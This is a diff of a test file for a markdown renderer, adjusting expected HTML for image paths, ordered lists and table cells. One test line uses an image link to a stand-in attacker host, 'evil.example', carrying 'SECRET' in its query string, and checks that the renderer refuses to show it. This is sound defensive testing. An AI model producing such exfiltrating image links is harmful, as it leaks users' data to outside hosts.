@@ -42,7 +42,7 @@ describe("Markdown", () => {
     const remote = markup("![x](https://evil.example/?d=SECRET)");
     expect(remote).not.toContain("<img");
     expect(remote).toContain("<bdi>evil.example</bdi>");
-    expect(markup("![x](/v1/attachments/a-1)")).toContain('<img src="/v1/attachments/a-1" alt="x"');
+    expect(markup("![x](/v1/attachments/a-1)")).toContain('<img src="./v1/attachments/a-1" alt="x"');
     expect(markup("![x](data:image/png;base64,AAAA)")).toContain("<img");
     for (const source of [
       "data:image/svg+xml;base64,AAAA",
@@ -61,13 +61,13 @@ describe("Markdown", () => {
 
   it("shows lists of tasks, and lists that do not begin at one", () => {
     expect(markup("- [x] a")).toContain('type="checkbox"');
-    expect(markup("3. a\n4. b")).toContain('<ol start="3">');
+    expect(markup("3. a\n4. b")).toContain('<ol start="3" dir="auto">');
   });
 
   it("puts tables into a region that takes focus, numbers at the right where the writer aligned them", () => {
     const shown = markup("| a | b |\n| - | -: |\n| x | 1 |");
     expect(shown).toContain('role="region" aria-label="Table" tabindex="0"');
-    expect(shown).toContain('<td class="md-right" dir="auto">1</td>');
+    expect(shown).toContain('<td class="md-right">1</td>');
   });
 
   it("completes the end while it streams, and only then", () => {
